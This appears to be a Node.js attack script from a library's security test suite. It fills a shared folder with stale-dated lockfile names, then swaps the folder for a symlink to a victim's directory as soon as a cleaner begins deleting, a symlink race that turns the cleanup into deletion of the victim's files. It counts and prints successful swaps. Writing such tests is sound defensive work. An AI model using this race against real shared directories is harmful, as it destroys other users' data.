// @ts-check
/**
 * An attacker: fills a folder of this library's with names of its own entries, and swaps it for a link to a victim's folder as soon
 * as somebody begins to clear it. It ends when it did so often enough, or is told to. Prints how often it did.
 */
import * as fs from 'node:fs';

const [shared = '', rounds = '', size = '', victim = '', names = '', ...decoys] = process.argv.slice(2);
const HOUR_S = 3600;
/** How long a link stays there, in milliseconds, by turns: whoever clears the folder may have to wait for a processor. */
const SWAPPED_MS = [2, 20, 200];

process.umask(0);
process.chdir(shared);
const entries = Array.from({ length: Number(size) }, (_, i) => `vfs-lockfile-${i.toString(16).padStart(32, '0')}`);
const old = Date.now() / 1000 - 2 * HOUR_S;
const nap = new Int32Array(new SharedArrayBuffer(4));
let swaps = 0;
let serial = 0;

/**
 * Whether this user finds something there; in a closed folder of the victim's own it does not.
 * @param {string} path
 */
const isThere = (path) => worked(() => fs.lstatSync(path));
const isOver = () => swaps >= Number(rounds) || fs.existsSync('attack-over');

/** @param {() => void} change */
function worked(change) {
  try {
    change();
    return true;
  } catch {
    return false;
  }
}

/** @returns a folder of old entries, under a name that nobody looks for */
function fill() {
  const made = `mine-${(serial += 1)}`;
  fs.mkdirSync(made, 0o777);
  for (const entry of [...entries, ...names.split(',')]) {
    fs.closeSync(fs.openSync(`${made}/${entry}`, 'w', 0o666));
    fs.utimesSync(`${made}/${entry}`, old, old);
  }
  fs.utimesSync(made, old, old);
  return made;
}

/** @param {string} decoy */
function swapOnce(decoy) {
  const made = fill();
  while (!worked(() => fs.renameSync(made, decoy))) if (isOver()) return;
  while (isThere(`${decoy}/${entries[0]}`)) if (isOver()) return;
  if (!worked(() => fs.renameSync(decoy, made))) return;
  if (worked(() => fs.symlinkSync(victim, decoy))) {
    swaps += 1;
    Atomics.wait(nap, 0, 0, SWAPPED_MS[swaps % SWAPPED_MS.length]);
  }
  worked(() => fs.unlinkSync(decoy));
  worked(() => fs.rmSync(made, { recursive: true }));
}

fs.closeSync(fs.openSync('attack-ready', 'w'));
while (!isOver()) for (const decoy of decoys) swapOnce(decoy);
console.log(swaps);
